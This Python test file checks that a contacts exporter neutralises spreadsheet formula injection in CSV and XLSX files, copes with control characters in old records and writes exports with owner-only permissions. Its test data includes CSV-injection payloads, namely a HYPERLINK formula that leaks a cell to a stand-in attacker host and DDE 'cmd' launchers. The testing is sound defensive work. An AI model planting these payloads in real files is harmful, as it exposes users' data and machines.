"""Exports never carry a live formula, and old records with control characters still export.

Before: a name like ``=HYPERLINK("http://evil","x")`` was written as a formula cell in XLSX and
as a bare ``=...`` cell in CSV (run by whoever opened the file), and a control character in a
name made openpyxl raise, so the XLSX export crashed. Now CSV cells that start like a formula
get a leading ``'`` (which the import removes again), XLSX cells are all string cells, and
control characters are written as visible symbols and counted.
"""

from __future__ import annotations

import csv
import os
import stat
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlite_utils import Database

from contacts.exporter import export_contacts
from contacts.importer import import_contacts
from contacts.sheets import FORMULA_START, neutralize, unneutralize
from jurisdiction.units import NewUnit, add_unit
from store.clock import FixedClock
from tests.conftest import OPERATOR

TOWN = "330106001000"
COMM = "330106001001"
# What an attacker (or a careless paste) puts in a name field.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


@pytest.fixture
def crowd(db: Database, clock: FixedClock, tmp_path: Path) -> Database:
    """Units, and people named with formulas (the import takes them: they are just text)."""
    add_unit(db, clock, OPERATOR, NewUnit(TOWN, "北山街道", "township"))
    add_unit(db, clock, OPERATOR, NewUnit(COMM, "幸福社区", "community", parent=TOWN))
    add_unit(db, clock, OPERATOR, NewUnit("G01", "一网格", "grid", parent=COMM))
    source = tmp_path / "source.csv"
    with source.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["id", "name", "unit", "phone", "skills"])
        for n, name in enumerate(FORMULAS):
            writer.writerow([f"F{n}", name, "G01", f"1380013800{n}", "=1+1"])
        writer.writerow(["", "王芳", "G01", "13900139000", ""])  # keyed by her phone
    import_contacts(db, clock, OPERATOR, source)
    return db


def stored_people(db: Database) -> list[tuple[object, ...]]:
    return db.conn.execute(
        "SELECT key, name, unit_id, phone, email, webhook, skills FROM people ORDER BY key"
    ).fetchall()


def test_csv_cells_starting_like_a_formula_are_neutralized(
    crowd: Database, clock: FixedClock, tmp_path: Path
) -> None:
    path = tmp_path / "people.csv"
    report = export_contacts(crowd, clock, OPERATOR, "people", path, unmasked=True)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row if cell]
    assert not [c for c in cells if c[0] in FORMULA_START]
    by_key = {row[0]: row for row in rows[1:]}
    assert by_key["F0"][1] == "'" + FORMULAS[0]
    assert by_key["F1"][1] == "'=cmd|' /C calc'!A0"
    assert by_key["F0"][7] == "'=1+1"
    # Phones stay usable: the same digits, marked as text.
    assert by_key["F0"][3] == "'+8613800138000"
    assert by_key["'+8613900139000"][1] == "王芳"
    # Names, skills and phones of six people: 5 + 5 + 6 + 1 phone-shaped key.
    assert report.neutralized == 17 and report.replaced == 0


def test_xlsx_cells_are_never_formulas(crowd: Database, clock: FixedClock, tmp_path: Path) -> None:
    path = tmp_path / "people.xlsx"
    export_contacts(crowd, clock, OPERATOR, "people", path, unmasked=True)
    book = load_workbook(path)  # not read-only: every cell with its data type
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert cells and all(c.data_type != "f" for c in cells)
    names = {row[0].value: row[1] for row in book.worksheets[0].iter_rows(min_row=2)}
    assert names["F0"].value == FORMULAS[0] and names["F0"].data_type == "s"
    # Phones as text, without a quote: +8613800138000 stays what it is.
    phones = [row[3].value for row in book.worksheets[0].iter_rows(min_row=2)]
    assert "+8613800138000" in phones
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


@pytest.mark.parametrize("name", ["people.csv", "people.xlsx"])
def test_our_own_export_imports_back_to_the_same_values(
    crowd: Database, clock: FixedClock, tmp_path: Path, name: str
) -> None:
    before = stored_people(crowd)
    path = tmp_path / name
    export_contacts(crowd, clock, OPERATOR, "people", path, unmasked=True)
    report = import_contacts(crowd, clock, OPERATOR, path)
    assert report.total("unchanged") == 6 and report.total("updated") == 0
    assert stored_people(crowd) == before


def test_control_characters_in_old_records_do_not_crash_the_xlsx_export(
    crowd: Database, clock: FixedClock, tmp_path: Path
) -> None:
    # Records written before input refused control characters.
    crowd.conn.execute("UPDATE people SET name = ? WHERE key = 'F0'", ("张\x1b[2J伟\x07",))
    crowd.conn.execute("UPDATE people SET name = ? WHERE key = 'F1'", ("\u202eevil\x85",))
    crowd.conn.execute("UPDATE people SET name = ? WHERE key = 'F2'", ("\tline\nbreak",))
    xlsx = tmp_path / "people.xlsx"
    report = export_contacts(crowd, clock, OPERATOR, "people", xlsx)
    assert report.replaced == 3
    book = load_workbook(xlsx, read_only=True)
    names = {row[0]: row[1] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)}
    book.close()
    assert names["F0"] == "张\u241b[2J伟\u2407"
    assert names["F1"] == "\ufffdevil\ufffd"
    assert names["F2"] == "\u2409line\u240abreak"
    csv_path = tmp_path / "people.csv"
    assert export_contacts(crowd, clock, OPERATOR, "people", csv_path).replaced == 3
    text = csv_path.read_text(encoding="utf-8-sig")
    assert "\x1b" not in text and "\u202e" not in text and "\t" not in text
    assert len(text.splitlines()) == 7  # one line per person: no line break inside a cell


def test_neutralize_examples() -> None:
    assert neutralize("+8613800138000") == "'+8613800138000"
    assert neutralize("\t=1") == "'\t=1" and neutralize("\r=1") == "'\r=1"
    assert neutralize("'=1") == "''=1" and neutralize("'abc") == "'abc"
    assert neutralize("张伟") == "张伟" and neutralize("") == ""
    assert unneutralize("'+8613800138000") == "+8613800138000"
    assert unneutralize("'abc") == "'abc"  # a quote before text is the person's own


@given(st.text())
def test_neutralize_is_undone_exactly_and_never_leaves_a_formula(value: str) -> None:
    cell = neutralize(value)
    assert not cell or cell[0] not in FORMULA_START
    assert unneutralize(cell) == value


@pytest.mark.parametrize("name", ["people.csv", "people.xlsx"])
def test_a_new_export_is_private_to_its_owner(
    crowd: Database, clock: FixedClock, tmp_path: Path, name: str
) -> None:
    old = os.umask(0o022)
    try:
        path = tmp_path / name
        export_contacts(crowd, clock, OPERATOR, "people", path, unmasked=True)
    finally:
        os.umask(old)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
